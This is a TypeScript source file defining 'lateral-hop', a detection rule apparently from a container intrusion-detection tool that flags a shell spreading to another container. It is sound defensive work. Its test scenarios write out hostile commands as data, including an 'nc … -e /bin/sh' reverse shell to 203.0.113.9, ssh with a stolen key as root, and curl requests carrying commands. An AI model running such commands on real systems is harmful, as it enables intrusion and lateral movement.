import type { DetectionCase } from '../../model/detection-case.js';
import type { Process } from '../../model/process.js';
import type { Draft, Story } from '../draft.js';
import { descendants, programName, seconds } from '../lineage.js';
import { isLoginServer } from '../programs.js';
import { isSerious, type Reach, reachOf } from '../reach.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { shellKind } from '../shell.js';
import { apart, command, contactEvidence, destination, processEvidence, related, span } from '../wording.js';

/** What began at the other end after a call: a shell, or a program that the server had never run. */
interface Arrival {
  readonly reach: Reach;
  readonly process: Process;
  readonly isShell: boolean;
  readonly delayUs: number;
}

const PROCESSES_READ = 5000;

export const lateralHop = defineRule({
  id: 'lateral-hop',
  title: 'Shell moved on to another container',
  description:
    'A program below a commanded shell connects to another container, and within moments a shell that is commanded too starts there, or the ' +
    'process that answered runs a program that it never ran before: the intruder is now in both.',
  level: 'critical',
  stage: 'consequence',
  attack: ['T1210', 'T1021'],
  needs: ['connections'],
  options: {
    windowSeconds: { value: 120, description: 'Longest time from the call to what it set off at the other end.' },
  },
  falsePositives: ['Those of the shell finding that it follows from; a service that happens to run a new helper at that moment.'],
  *run({ view, option, stories }) {
    const window = seconds(option('windowSeconds'));
    for (const story of stories.filter(isSerious)) {
      const arrivals = new Map<number, Arrival>();
      for (const reach of reachOf(view, story)) {
        const arrival = arrivalOf(view, story, reach, stories, window);
        if (arrival === undefined || reach.container === undefined) continue;
        const known = arrivals.get(reach.container.id);
        if (known === undefined || isStronger(arrival, known)) arrivals.set(reach.container.id, arrival);
      }
      for (const arrival of arrivals.values()) yield draft(view, story, arrival);
    }
  },
  hits: [
    scenario(
      'curl below a shell, then a shell below the server that it called',
      `
      container web 10.0.0.10
      0       node server.js
      1200      bash -c "…"
      1200.01     fork
      1200.02       > tcp 203.0.113.9:4444
      1200.03       => bash -i
      1210          curl http://10.0.0.20:8000/?c=…
      1210.1          > tcp 10.0.0.20:8000
      container resumes 10.0.0.20
      0       php -S 0.0.0.0:8000
      0.1       listen tcp 8000
      1210.2    sh -c "python3 -c …"
      1210.3      python3 -c "…"
      1210.6        > tcp 203.0.113.9:9001
      1210.7        /bin/sh -i
    `,
    ),
    scenario(
      'ssh with a stolen key, to a server that people log in to every day',
      `
      container web 10.0.0.10
      0       node server.js
      1200      nc host 4444 -e /bin/sh
      1200.02     > tcp 203.0.113.9:4444
      1200.03     => /bin/sh
      1210        ssh -i /tmp/k root@10.0.0.20
      1210.1        > tcp 10.0.0.20:22
      container gateway 10.0.0.20
      0       /usr/sbin/sshd -D
      0.1       listen tcp 22
      600       /bin/bash
      1211      /bin/bash
    `,
    ),
    scenario(
      'the server that was called runs something new',
      `
      container web 10.0.0.10
      0       node server.js
      1200      nc host 4444 -e /bin/sh
      1200.02     > tcp 203.0.113.9:4444
      1200.03     => /bin/sh
      1210        curl http://10.0.0.20:8000/?c=id
      1210.1        > tcp 10.0.0.20:8000
      container resumes 10.0.0.20
      0       php -S 0.0.0.0:8000
      0.1       listen tcp 8000
      600       head -c 20 cv.txt
      1210.2    id
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'the server that was called does what it always does',
      `
      container web 10.0.0.10
      0       node server.js
      1200    bash -i {entered}
      1210      curl http://10.0.0.20:8000/
      1210.1      > tcp 10.0.0.20:8000
      container resumes 10.0.0.20
      0       php -S 0.0.0.0:8000
      0.1       listen tcp 8000
      600       head -c 20 cv.txt
      1210.2    head -c 20 cv.txt
    `,
    ),
  ],
});

function arrivalOf(view: DetectionCase, story: Story, reach: Reach, stories: readonly Story[], window: number): Arrival | undefined {
  const { atUs } = reach.contact;
  const next = stories.find((other) => {
    const since = startOf(other.shell) - atUs;
    return other !== story && other.shell.containerId === reach.container?.id && since >= 0 && since <= window;
  });
  if (next !== undefined) return { reach, process: next.shell, isShell: true, delayUs: startOf(next.shell) - atUs };
  if (reach.server === undefined) return undefined;
  const below = descendants(view, reach.server, PROCESSES_READ).filter((process) => process.knownFrom === 'exec');
  const known = new Set(below.filter((process) => startOf(process) < atUs).map(programName));
  const isLogin = isLoginServer(programName(reach.server));
  const news = below.find((process) => {
    const isNew = !known.has(programName(process)) || (isLogin && shellKind(process) !== undefined);
    return isNew && startOf(process) >= atUs && startOf(process) - atUs <= window;
  });
  return news === undefined ? undefined : { reach, process: news, isShell: shellKind(news) !== undefined, delayUs: startOf(news) - atUs };
}

function startOf(process: Process): number {
  return process.imageStartedAtUs ?? process.startedAtUs ?? Number.NEGATIVE_INFINITY;
}

/** A shell at the other end says more than a program; between equals the call nearest before it is the one that set it off. */
function isStronger(a: Arrival, b: Arrival): boolean {
  return a.isShell === b.isShell ? a.delayUs < b.delayUs : a.isShell;
}

function draft(view: DetectionCase, story: Story, { reach, process, isShell, delayUs }: Arrival): Draft {
  const { contact } = reach;
  const from = story.shell.containerId === undefined ? undefined : view.container(story.shell.containerId);
  const source = from?.name ?? from?.containerId.slice(0, 12) ?? 'the host';
  const target = reach.container?.name ?? reach.container?.containerId.slice(0, 12) ?? reach.name;
  const answered = reach.server === undefined ? '' : ` (${command(reach.server)}, pid ${reach.server.pid})`;
  return {
    level: isShell ? 'critical' : 'high',
    title: `From ${source} to ${target}: ${command(contact.process)}, then ${command(process)}`,
    why: `Below the commanded shell ${command(story.shell)} (pid ${story.shell.pid}) in ${source}, ${command(contact.process)} (pid ${contact.process.pid}) connected to ${destination(contact.connection)} in ${target}${answered}; ${apart(delayUs)} later ${command(process)} (pid ${process.pid}) started there.`,
    process,
    ...span(contact.atUs, contact.atUs + delayUs),
    connections: [contact.connection],
    related: [
      related(process, isShell ? 'shell' : 'child'),
      related(story.shell, 'parent'),
      related(contact.process, 'client'),
      ...(reach.server === undefined ? [] : [related(reach.server, 'server')]),
    ],
    evidence: [...processEvidence(story.shell), ...contactEvidence(contact), ...processEvidence(process)],
    members: [process.id],
  };
}
